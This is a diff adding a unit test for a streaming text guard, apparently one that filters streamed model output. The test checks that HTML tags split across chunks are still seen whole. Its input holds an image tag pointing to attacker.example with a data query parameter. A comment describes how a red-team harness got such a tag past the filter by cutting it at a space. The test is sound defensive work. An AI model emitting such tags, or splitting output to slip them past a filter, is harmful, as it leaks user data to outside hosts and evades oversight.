@@ -145,6 +145,19 @@ public sealed class StreamingTextGuardTests
     }
 
     [TestMethod]
+    public void Transform_SeesAnHtmlTagWhole_EvenWhenItHasSpacesAndArrivesInPieces()
+    {
+        // Found by the red-team harness: a cut at the space in "<img src=..." let the transform see "<img " alone (text,
+        // left as is) and "src=...>" alone (no tag), and the caller's buffer re-formed the tag.
+        var segments = new List<string>();
+        var guard = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 8, Transform = s => { segments.Add(s); return StreamingTransformResult.Pass(s); } });
+        (string output, _) = Run(guard, ["See <img ", "src=\"https://attacker.example/p.png?d=x\" ", "alt=\"a b\"> and ", "more text after the tag ", "to flush it."]);
+        Assert.AreEqual("See <img src=\"https://attacker.example/p.png?d=x\" alt=\"a b\"> and more text after the tag to flush it.", output);
+        Assert.IsTrue(segments.Any(s => s.Contains("<img src=\"https://attacker.example/p.png?d=x\" alt=\"a b\">", StringComparison.Ordinal)), string.Join(" | ", segments));
+        Assert.IsFalse(segments.Any(s => s.Contains('<') && !s.Contains('>')), "no segment ends inside a tag: " + string.Join(" | ", segments));
+    }
+
+    [TestMethod]
     public void NothingReleasedWithinHoldBackWindow()
     {
         var guard = new StreamingTextGuard(new StreamingTextGuardOptions { HoldBackChars = 100 });
